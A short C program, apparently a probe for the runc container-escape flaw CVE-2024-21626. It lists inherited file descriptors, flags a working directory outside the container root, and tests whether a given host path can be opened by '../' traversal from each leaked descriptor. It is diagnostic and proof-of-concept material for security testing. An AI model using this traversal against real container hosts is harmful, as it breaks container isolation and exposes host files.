// What a program got that it was not given (runc CVE-2024-21626): prints each descriptor above 2, "outside" when the working
// directory lies outside the root, and "reads ARGUMENT" when that path (absolute, of the host) can be opened from any of them.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void climb(int directory, const char* what, const char* target) {
  char path[4096] = "";
  for (int i = 0; i < 40; ++i) strcat(path, "../");
  strncat(path, target + 1, sizeof path - strlen(path) - 1);
  if (openat(directory, path, O_RDONLY) >= 0) printf("reads %s from %s\n", target, what);
}

int main(int argc, char** argv) {
  char directory[4096], name[32];
  for (int fd = 3; fd < 4096; ++fd) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(name, sizeof name, "descriptor %d", fd);
    puts(name);
    if (argc > 1) climb(fd, name, argv[1]);
  }
  if (getcwd(directory, sizeof directory) == NULL || directory[0] != '/') puts("outside");
  if (argc > 1) climb(AT_FDCWD, "the working directory", argv[1]);
  return 0;
}
